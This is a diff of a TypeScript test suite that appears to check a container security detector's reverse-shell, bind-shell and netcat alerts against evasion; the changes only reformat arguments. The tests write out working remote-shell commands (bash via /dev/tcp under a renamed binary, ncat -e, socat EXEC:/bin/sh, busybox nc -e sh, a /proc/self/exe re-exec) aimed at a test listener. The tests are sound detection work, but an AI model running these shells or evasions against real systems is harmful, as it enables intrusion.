@@ -62,7 +62,10 @@ describe.skipIf(unavailable)('detections that hold against evasion', () => {
   it('a copy of bash under another name is still a shell: Reverse Shell, Critical', async () => {
     const l = await attacker();
     const pod = runPod({
-      namespace: 'evasion', pod: 'renamed-bash', container: 'app', image: TOOLS,
+      namespace: 'evasion',
+      pod: 'renamed-bash',
+      container: 'app',
+      image: TOOLS,
       command: ['sh', '-c', `cp /bin/bash /tmp/kworker && exec /tmp/kworker -c 'exec /tmp/kworker -i >& /dev/tcp/${gateway}/${l.port} 0>&1'`],
     });
     await l.waitForConnection(15_000);
@@ -77,7 +80,10 @@ describe.skipIf(unavailable)('detections that hold against evasion', () => {
     // socket, a copied binary, but no shell. (Not bash's `>& /dev/tcp` then exec: bash itself
     // holds the socket on its stdio for a moment, which is a shell's output on the network.)
     const pod = runPod({
-      namespace: 'evasion', pod: 'renamed-tool', container: 'app', image: TOOLS,
+      namespace: 'evasion',
+      pod: 'renamed-tool',
+      container: 'app',
+      image: TOOLS,
       command: ['sh', '-c', `cp /bin/busybox /tmp/kworker && ln -s /tmp/kworker /tmp/sleep && exec ncat ${gateway} ${l.port} -e '/tmp/sleep 20'`],
     });
     await l.waitForConnection(15_000);
@@ -87,7 +93,10 @@ describe.skipIf(unavailable)('detections that hold against evasion', () => {
   it('socat EXEC without a pty (a socketpair): Reverse Shell, Critical, relayed by socat', async () => {
     const l = await attacker();
     const pod = runPod({
-      namespace: 'evasion', pod: 'socat-rev', container: 'app', image: TOOLS,
+      namespace: 'evasion',
+      pod: 'socat-rev',
+      container: 'app',
+      image: TOOLS,
       command: ['socat', `TCP:${gateway}:${l.port}`, 'EXEC:/bin/sh'],
     });
     await l.waitForConnection(15_000);
@@ -98,7 +107,10 @@ describe.skipIf(unavailable)('detections that hold against evasion', () => {
 
   it('socat TCP-LISTEN EXEC without a pty: Bind Shell, Critical, with the listening port', async () => {
     const pod = runPod({
-      namespace: 'evasion', pod: 'socat-bind', container: 'app', image: TOOLS,
+      namespace: 'evasion',
+      pod: 'socat-bind',
+      container: 'app',
+      image: TOOLS,
       command: ['socat', 'TCP-LISTEN:4444,reuseaddr', 'EXEC:/bin/sh'],
     });
     const ip = pod.ip();
@@ -118,17 +130,23 @@ describe.skipIf(unavailable)('detections that hold against evasion', () => {
   it('socat relaying data, not a shell, stays quiet (look-alike)', async () => {
     const l = await attacker();
     const pod = runPod({
-      namespace: 'evasion', pod: 'socat-data', container: 'app', image: TOOLS,
+      namespace: 'evasion',
+      pod: 'socat-data',
+      container: 'app',
+      image: TOOLS,
       command: ['socat', `TCP:${gateway}:${l.port}`, 'EXEC:sleep 20'],
     });
     await l.waitForConnection(15_000);
     await expectNone(pod, ['Reverse Shell', 'Bind Shell']);
   });
 
-  it('`busybox nc ... -e sh` by busybox\'s own name: Netcat Remote Code Execution, Warning, and the shell is a Reverse Shell', async () => {
+  it("`busybox nc ... -e sh` by busybox's own name: Netcat Remote Code Execution, Warning, and the shell is a Reverse Shell", async () => {
     const l = await remoteAttacker();
     const pod = runPod({
-      namespace: 'evasion', pod: 'busybox-nc', container: 'app', image: BUSYBOX,
+      namespace: 'evasion',
+      pod: 'busybox-nc',
+      container: 'app',
+      image: BUSYBOX,
       command: ['busybox', 'nc', gateway, String(l.port), '-e', 'sh'],
     });
     l.release();
@@ -142,7 +160,10 @@ describe.skipIf(unavailable)('detections that hold against evasion', () => {
   it('nc run through a /proc/self/exe re-exec (busybox sh, exec -a): Netcat Remote Code Execution with proc.name nc', async () => {
     const l = await remoteAttacker();
     const pod = runPod({
-      namespace: 'evasion', pod: 'busybox-reexec', container: 'app', image: BUSYBOX,
+      namespace: 'evasion',
+      pod: 'busybox-reexec',
+      container: 'app',
+      image: BUSYBOX,
       command: ['sh', '-c', `exec -a nc /proc/self/exe ${gateway} ${l.port} -e sh`],
     });
     l.release();
@@ -155,7 +176,10 @@ describe.skipIf(unavailable)('detections that hold against evasion', () => {
 
   it('busybox nc without -e, listening and serving a file, stays quiet (look-alike)', async () => {
     const pod = runPod({
-      namespace: 'evasion', pod: 'busybox-serve', container: 'app', image: BUSYBOX,
+      namespace: 'evasion',
+      pod: 'busybox-serve',
+      container: 'app',
+      image: BUSYBOX,
       command: ['sh', '-c', 'busybox nc -l -p 8080 < /etc/passwd; sleep 5'],
     });
     const ip = pod.ip();
